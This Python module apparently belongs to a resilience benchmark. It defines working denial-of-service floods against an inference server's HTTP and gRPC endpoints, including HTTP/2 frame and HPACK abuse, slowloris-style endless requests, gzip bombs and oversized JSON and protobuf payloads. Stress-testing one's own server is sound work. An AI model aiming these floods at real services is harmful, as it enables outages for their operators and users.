"""Floods: one client that sends or requests without limit.

Each attack runs in a separate process until this is killed. When the server closes the connection,
the attack starts again.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import multiprocessing
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from multiprocessing.synchronize import Event
from typing import Any, NoReturn

import numpy as np
from support.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    SETTINGS,
    WINDOW_UPDATE,
    ConnectionEnded,
    RawConnection,
    frame,
    head,
    message,
    settings,
)
from tritonclient.grpc import service_pb2

from benchmarks.attack.ground import SERVICE, Ground, connect
from tests.support.servers import Server

_ALL_DAY_S = 3600
_PIECE = 16_000
"""Bytes of a DATA frame, below the smallest limit that HTTP/2 allows."""
_FLOATS = 5_000_000
"""Elements of a tensor of 20 MB."""


def stream_requests(http: str, grpc: str) -> NoReturn:
    """3 MB of small requests on one gRPC stream, repeated without a pause."""
    requests: bytes = message(_request("identity_0").SerializeToString()) * 200
    with RawConnection(grpc) as connection:
        connection.send(
            _window_update(0, 2**30), connection.headers(1, head(SERVICE + "ModelStreamInfer"))
        )
        _repeat(connection.socket, frame(DATA, 0, 1, requests[:_PIECE]))


def tiny_data(http: str, grpc: str) -> NoReturn:
    """One endless gRPC message in DATA frames of one byte."""
    with RawConnection(grpc) as connection:
        connection.send(
            connection.headers(1, head(SERVICE + "ModelInfer")),
            frame(DATA, 0, 1, struct.pack(">BI", 0, 2**30)),
        )
        _repeat(connection.socket, frame(DATA, 0, 1, b"x") * 20_000)


def table_resizes(http: str, grpc: str) -> None:
    """Header blocks that resize the HPACK table 8,000 times each."""
    with RawConnection(grpc) as connection:
        _discard_responses(connection.socket)
        resizes = b"\x20\x3f\xe1\x1f" * 4_000
        for stream in itertools.count(1, 2):
            block = resizes + connection.encoder.encode(head(SERVICE + "ServerLive"))
            connection.send(
                frame(HEADERS, END_HEADERS, stream, block),
                frame(DATA, END_STREAM, stream, message(b"")),
            )


def window_by_one(http: str, grpc: str) -> NoReturn:
    """Long responses on 32 streams whose windows grow by one byte at a time."""
    with RawConnection(grpc, opening=PREFACE + frame(SETTINGS) + settings(_4=0)) as connection:
        streams = range(1, 65, 2)
        for stream in streams:
            connection.request(stream, SERVICE + "ModelStatistics", message(b""))
        _repeat(connection.socket, b"".join(_window_update(each, 1) for each in streams) * 500)


def statistics_unread(http: str, grpc: str) -> None:
    """Endless gRPC requests for the statistics of all models; no response is read."""
    with RawConnection(grpc, opening=PREFACE + settings(_4=2**31 - 1)) as connection:
        for stream in itertools.count(1, 2):
            connection.request(stream, SERVICE + "ModelStatistics", message(b""))


def responses_unread(http: str, grpc: str) -> None:
    """A gRPC stream of endless responses from a decoupled model; no response is read."""
    body = message(_request("flood").SerializeToString())
    with RawConnection(grpc, opening=PREFACE + frame(SETTINGS) + settings(_4=0)) as connection:
        connection.request(1, SERVICE + "ModelStreamInfer", body)
        time.sleep(_ALL_DAY_S)


def events_unread(http: str, grpc: str) -> None:
    """An HTTP event stream of endless responses from a decoupled model; no event is read."""
    with connect(http) as client:
        client.sendall(_post("flood/generate_stream", b'{"INPUT":[0,0,0,0]}'))
        time.sleep(_ALL_DAY_S)


def tiny_events_unread(http: str, grpc: str) -> None:
    """An HTTP event stream of endless responses with one float; no event is read."""
    with connect(http) as client:
        client.sendall(_post("flood/generate_stream", b'{"INPUT":[0,0,0,1]}'))
        time.sleep(_ALL_DAY_S)


def gets_unread(http: str, grpc: str) -> NoReturn:
    """Endless pipelined requests for statistics over HTTP; no response is read."""
    with connect(http) as client:
        while True:
            client.sendall(b"GET /v2/models/stats HTTP/1.1\r\nHost: x\r\n\r\n" * 100)


def endless_header(http: str, grpc: str) -> NoReturn:
    """One HTTP header whose value never ends."""
    _endless(http, b"GET /v2 HTTP/1.1\r\nX: ", b"y" * 65_536)


def endless_headers(http: str, grpc: str) -> NoReturn:
    """An endless list of HTTP headers."""
    _endless(http, b"GET /v2 HTTP/1.1\r\n", b"X: y\r\n" * 10_000)


def endless_url(http: str, grpc: str) -> NoReturn:
    """A URL that never ends."""
    _endless(http, b"GET /", b"y" * 65_536)


def tiny_chunks(http: str, grpc: str) -> NoReturn:
    """An endless HTTP body in chunks of one byte."""
    start = b"POST /v2/models/identity_0/infer HTTP/1.1\r\nHost: x\r\n"
    _endless(http, start + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10_000)


def gzip_bomb(http: str, grpc: str) -> NoReturn:
    """HTTP bodies of gzip that unpack to 256 MiB."""
    _send_requests(http, _post("identity_0/infer", _packed(b" "), b"Content-Encoding: gzip\r\n"))


def packed_messages(http: str, grpc: str) -> None:
    """Compressed gRPC messages that unpack to 256 MiB."""
    pieces = _pieces(message(_packed(b"\0"), 1))
    with RawConnection(grpc) as connection:
        _discard_responses(connection.socket)
        for stream in itertools.count(1, 2):
            fields = head(SERVICE + "ModelInfer", ("grpc-encoding", "gzip"))
            connection.send(connection.headers(stream, fields))
            connection.send(*(frame(DATA, 0, stream, piece) for piece in pieces))
            connection.send(frame(DATA, END_STREAM, stream))


def many_strings(http: str, grpc: str) -> NoReturn:
    """Messages with one million strings, over gRPC."""
    request = service_pb2.ModelInferRequest(model_name="texts")
    tensor = request.inputs.add(name="INPUT", datatype="BYTES", shape=[1_000_000])
    tensor.contents.bytes_contents.extend([b"text"] * 1_000_000)
    pieces = _pieces(message(request.SerializeToString()))
    while True:
        with RawConnection(grpc) as connection:
            _discard_responses(connection.socket)
            connection.send(connection.headers(1, head(SERVICE + "ModelInfer")))
            connection.send(*(frame(DATA, 0, 1, piece) for piece in pieces))
            connection.send(frame(DATA, END_STREAM, 1))
            time.sleep(0.3)


def empty_fields(http: str, grpc: str) -> NoReturn:
    """Messages with two million empty fields, on one gRPC stream."""
    pieces = _pieces(message(b"\x3a\x00" * 2_000_000))
    with RawConnection(grpc) as connection:
        _discard_responses(connection.socket)
        connection.send(connection.headers(1, head(SERVICE + "ModelStreamInfer")))
        while True:
            connection.send(*(frame(DATA, 0, 1, piece) for piece in pieces))


def long_json(http: str, grpc: str) -> NoReturn:
    """HTTP requests with a tensor of 20 MB as JSON."""
    _send_json(http, json.dumps([1.5] * _FLOATS).encode())


def nested_json(http: str, grpc: str) -> NoReturn:
    """HTTP requests with a tensor of 20 MB as JSON, in rows of four."""
    _send_json(http, json.dumps([[1.5] * 4] * (_FLOATS // 4)).encode())


def long_json_answer(http: str, grpc: str) -> NoReturn:
    """HTTP requests whose response has a tensor of 20 MB as JSON."""
    binary = np.linspace(0, 1, _FLOATS, dtype=np.float32).tobytes()
    tensor = {
        "name": "INPUT",
        "datatype": "FP32",
        "shape": [_FLOATS],
        "parameters": {"binary_data_size": len(binary)},
    }
    header = json.dumps({"inputs": [tensor]}).encode()
    lengths = b"Inference-Header-Content-Length: %d\r\n" % len(header)
    _send_requests(http, _post("wide/infer", header + binary, lengths))


def nothing(http: str, grpc: str) -> None:
    """No attack: the baseline."""
    time.sleep(_ALL_DAY_S)


FLOODS: dict[str, Callable[[str, str], None]] = {
    attack.__name__: attack
    for attack in (
        nothing,
        stream_requests,
        tiny_data,
        table_resizes,
        window_by_one,
        statistics_unread,
        responses_unread,
        events_unread,
        tiny_events_unread,
        gets_unread,
        endless_header,
        endless_headers,
        endless_url,
        tiny_chunks,
        gzip_bomb,
        packed_messages,
        many_strings,
        empty_fields,
        long_json,
        nested_json,
        long_json_answer,
    )
}


# -- bytes


def _request(model: str) -> Any:
    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name="INPUT", datatype="FP32", shape=[4])
    request.raw_input_contents.append(bytes(16))
    return request


def _post(target: str, body: bytes, headers: bytes = b"") -> bytes:
    start = b"POST /v2/models/%b HTTP/1.1\r\nHost: x\r\n%bContent-Length: %d\r\n\r\n"
    return start % (target.encode(), headers, len(body)) + body


def _packed(filling: bytes) -> bytes:
    """Return 256 MiB of one byte, packed by gzip."""
    packer = zlib.compressobj(9, wbits=zlib.MAX_WBITS | 16)
    return b"".join(packer.compress(filling * 2**20) for _ in range(256)) + packer.flush()


def _pieces(body: bytes) -> list[bytes]:
    return [body[start : start + _PIECE] for start in range(0, len(body), _PIECE)]


def _window_update(stream: int, size: int) -> bytes:
    update: bytes = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))
    return update


# -- sending


def _repeat(connection: socket.socket, data: bytes) -> NoReturn:
    """Send `data` again and again; read and discard the responses."""
    _discard_responses(connection)
    while True:
        connection.sendall(data)


def _endless(http: str, start: bytes, rest: bytes) -> NoReturn:
    """Start an HTTP request and never end it. No response is read."""
    with connect(http) as client:
        client.sendall(start)
        while True:
            client.sendall(rest)


def _send_requests(http: str, request: bytes) -> NoReturn:
    with connect(http) as client:
        _repeat(client, request)


def _send_json(http: str, numbers: bytes) -> NoReturn:
    tensor = b'{"name":"INPUT","datatype":"FP32","shape":[%d],"data":%b}' % (_FLOATS, numbers)
    _send_requests(http, _post("wide/infer", b'{"inputs":[%b]}' % tensor))


def _discard_responses(client: socket.socket) -> None:
    """Read and discard what the server sends, on a thread."""

    def read() -> None:
        with contextlib.suppress(OSError):
            while client.recv(1 << 20):
                pass

    threading.Thread(target=read, daemon=True).start()


# -- the process of an attack


def _attack(name: str, http: str, grpc: str, started: Event) -> NoReturn:
    """Attack for as long as this process lives."""
    started.set()
    while True:
        with contextlib.suppress(OSError, ConnectionEnded):
            FLOODS[name](http, grpc)
        time.sleep(0.01)


@contextlib.contextmanager
def flooding(server: Server, name: str) -> Iterator[multiprocessing.process.BaseProcess]:
    """Run a flood in a separate process until the block ends."""
    context = multiprocessing.get_context("spawn")
    started = context.Event()
    attacker = context.Process(
        target=_attack, args=(name, server.http, server.grpc, started), daemon=True
    )
    attacker.start()
    try:
        started.wait(60)
        yield attacker
    finally:
        attacker.kill()
        attacker.join()


def flood(name: str) -> Callable[[Ground], str]:
    """Return the flood of this name as an attack of the campaign."""

    def attack(ground: Ground) -> str:
        with flooding(ground.server, name):
            time.sleep(ground.seconds)
        return "-"

    attack.__name__, attack.__doc__ = name, FLOODS[name].__doc__
    return attack
